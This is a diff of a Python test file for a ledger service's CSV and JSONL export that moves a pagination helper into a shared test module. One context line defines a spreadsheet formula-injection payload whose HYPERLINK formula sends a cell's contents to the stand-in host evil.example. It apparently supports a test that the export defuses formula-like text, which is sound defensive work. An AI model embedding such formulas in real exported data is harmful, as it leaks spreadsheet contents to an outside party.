@@ -19,28 +19,13 @@ from db import ledger, releases
 from db.engine import Database
 from tests.conftest import Service
 from tests.factories import MUNICIPALITIES, events_metadata, write_events
-from tests.support.api import VISITORS, analyst
+from tests.support.api import VISITORS, all_entries, analyst
 
 PROBLEM = "application/problem+json"
 MANY_KEYS = [f"GMX-{i:07d}-ab" for i in range(2300)]
 """Declared municipalities: the registration's details exceed a cell; a release by
 municipality has 2,306 rows, still copied into its ``release_output`` entry."""
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-def _all_entries(client: httpx.Client, **params: Any) -> list[dict[str, Any]]:
-    """Every entry of ``GET /v1/ledger`` matching ``params``, following cursors."""
-    entries: list[dict[str, Any]] = []
-    cursor = None
-    while True:
-        query = {**params, "limit": 1000, **({"cursor": cursor} if cursor else {})}
-        response = client.get("/v1/ledger", params=query)
-        assert response.status_code == 200, response.text
-        page = response.json()
-        entries.extend(page["items"])
-        cursor = page["next_cursor"]
-        if cursor is None:
-            return entries
 
 
 def _jsonl(client: httpx.Client, **params: Any) -> list[dict[str, Any]]:
@@ -105,7 +90,7 @@ def _populate(server: Service, admin: httpx.Client) -> None:
 def test_csv_is_flat_and_fits_a_spreadsheet(server: Service, admin: httpx.Client) -> None:
     _populate(server, admin)
     documents = _jsonl(admin)
-    assert documents == _all_entries(admin)  # JSONL: the complete documents
+    assert documents == all_entries(admin)  # JSONL: the complete documents
     assert all(ledger.compute_hash(d) == d["hash"] for d in documents)
     rows = _csv(admin)
     assert [int(r["seq"]) for r in rows] == [d["seq"] for d in documents]  # one row per entry
@@ -190,7 +175,7 @@ def test_formula_like_text_is_prefixed_but_numbers_are_not(
 
 def test_filters_select_what_the_list_selects(server: Service, admin: httpx.Client) -> None:
     _populate(server, admin)
-    entries = _all_entries(admin)
+    entries = all_entries(admin)
     first, middle, last = entries[0], entries[len(entries) // 2], entries[-1]
     cases: list[dict[str, str]] = [
         {},
@@ -208,10 +193,10 @@ def test_filters_select_what_the_list_selects(server: Service, admin: httpx.Clie
         {"consumer": "ana", "kind": "release", "since": middle["time"]},
     ]
     for params in cases:
-        listed = _all_entries(admin, **params)
+        listed = all_entries(admin, **params)
         assert _jsonl(admin, **params) == listed, params
         assert [int(r["seq"]) for r in _csv(admin, **params)] == [e["seq"] for e in listed]
-    assert len(_all_entries(admin, kind="release")) == 3
+    assert len(all_entries(admin, kind="release")) == 3
 
 
 @pytest.mark.parametrize("fmt", ["csv", "jsonl"])
